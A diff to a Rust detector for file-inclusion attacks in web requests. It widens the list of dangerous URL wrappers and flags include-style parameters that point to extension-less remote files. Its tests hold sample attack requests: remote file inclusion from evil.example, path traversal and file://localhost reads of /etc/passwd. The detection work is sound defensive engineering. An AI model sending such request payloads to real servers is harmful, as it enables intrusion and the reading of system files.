@@ -30,7 +30,7 @@ const FILES: &[&str] = &[
 ];
 
 /// Addresses that are no web pages.
-const WRAPPERS: &[&str] = &["php://", "phar://", "expect://", "data://text", "file:///"];
+const WRAPPERS: &[&str] = &["php://", "phar://", "expect://", "data://text", "file:///", "file://localhost/"];
 
 /// What includes by itself.
 const ANYWHERE: &[&str] = &["<!entity", "<!--#include"];
@@ -41,6 +41,9 @@ const INCLUDES: &[&str] = &[
     "document", "module", "mod", "load", "theme", "skin", "layout", "lang", "language", "view", "conf", "config",
     "content", "body", "style",
 ];
+
+/// Of these, names that are of nothing but programs: what they name needs no ending.
+const PROGRAMS_ALONE: &[&str] = &["include", "inc", "require", "template", "tpl"];
 
 /// Ends of files that a server would run or show; pictures, documents and pages are fetched by many a site.
 const PROGRAMS: &[&str] = &[
@@ -86,12 +89,16 @@ fn remote(value: &Value<'_>) -> Option<(usize, usize)> {
 /// Whether the argument is one that is included, and the address that of a program on another site.
 fn is_included(value: &Value<'_>) -> bool {
     let name = value.name[..value.name.len().min(64)].to_ascii_lowercase();
-    let is_named = INCLUDES.iter().any(|word| {
+    let ends_with = |word: &&str| {
         let before = name.strip_suffix(word.as_bytes());
         before.is_some_and(|before| before.last().is_none_or(|byte| !byte.is_ascii_alphanumeric()))
-    });
+    };
+    let is_named = INCLUDES.iter().any(ends_with);
     let path = &value.text[..memchr::memchr2(b'?', b'#', value.text).unwrap_or(value.text.len())];
-    let is_program = PROGRAMS.iter().any(|end| path.ends_with(end.as_bytes())) || path.starts_with(b"ftp://");
+    let last = memchr::memrchr(b'/', path).map_or(path, |slash| &path[slash + 1..]);
+    let is_bare = !last.is_empty() && !last.contains(&b'.') && PROGRAMS_ALONE.iter().any(ends_with);
+    let is_program =
+        is_bare || path.starts_with(b"ftp://") || PROGRAMS.iter().any(|end| path.ends_with(end.as_bytes()));
     // What measures visits tells its own page's address.
     (is_named || name.ends_with(b"path")) && is_program && !host(value.text).eq_ignore_ascii_case(value.home)
 }
@@ -116,6 +123,8 @@ mod tests {
             "/a?page=http://evil.example/x.txt",
             "/a?page=http://evil.example/x.txt?",
             "/index.php?GLOBALS=1&mosConfig_absolute_path=http://evil.example/c.php",
+            "/a?template=http://evil.example/x",
+            "/a?f=file://localhost/etc/passwd",
             "/a?include=ftp://evil.example/x",
             "/a?f=../../../etc/passwd",
             "/a?q=/etc/passwd",
@@ -147,6 +156,8 @@ mod tests {
             "/oauth?redirect_uri=https://app.example.com/cb?",
             "/track?page=https://www.example.com/products/",
             "/a?url=http://www.example.com/a.php",
+            "/a?template=http://www.example.com/",
+            "/a?page=http://www.example.com/about",
         ];
         super::super::check("file-inclusion", &hits, &misses);
     }
